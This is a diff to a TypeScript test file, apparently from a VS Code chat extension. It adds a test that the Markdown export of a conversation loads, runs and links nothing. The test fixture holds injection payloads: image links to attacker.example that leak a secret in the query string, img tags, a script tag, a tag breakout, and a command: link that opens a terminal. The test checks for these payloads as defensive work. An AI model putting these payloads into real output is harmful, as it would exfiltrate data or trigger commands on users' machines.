@@ -2,6 +2,7 @@
 // (a new store over the same storage), and the Markdown export.
 import { describe, it } from 'node:test';
 import assert from 'node:assert/strict';
+import MarkdownIt from 'markdown-it';
 import { type Turn } from '../../src/chat/conversation';
 import { CONVERSATIONS_KEY, ConversationStore, MAX_CONVERSATIONS, type KeyValueStore } from '../../src/chat/conversationStore';
 import { exportFileName, exportMarkdown } from '../../src/chat/exportMarkdown';
@@ -168,5 +169,19 @@ describe('exportMarkdown', () => {
       ].join('\n'),
     );
     assert.equal(exportFileName(store.current()), 'What-does-orderTotal-do.md');
+  });
+
+  it('hostile answers and tool calls load, run and link nothing in the exported document', () => {
+    const store = new ConversationStore(new MapStorage(), { newId: counter(), now: clock() });
+    const hostile = turn('t1', 'Q', 'Look ![x](https://attacker.example/leak?c=SECRET) <img src="https://attacker.example/i"> [run](command:workbench.action.terminal.new)');
+    const toolCalls = [{ kind: 'mcp' as const, server: '<img src=https://attacker.example/s>', name: 'a`</summary><img src=x>', arguments: '```\n<script>alert(1)</script>', output: '![o](https://attacker.example/o)' }];
+    store.addTurn({ ...hostile, answer: { ...hostile.answer!, toolCalls } });
+    const markdown = exportMarkdown(store.current(), new Date('2026-01-02T03:04:00Z'));
+    const preview = new MarkdownIt({ html: true, linkify: true });
+    preview.validateLink = () => true;
+    const html = preview.render(markdown);
+    assert.doesNotMatch(html, /<(?:img|script|details|summary)\b/i, html);
+    assert.doesNotMatch(html, /href="command:/, html);
+    assert.ok(markdown.includes('<script>alert(1)</script>'), 'tool arguments are kept, as code');
   });
 });
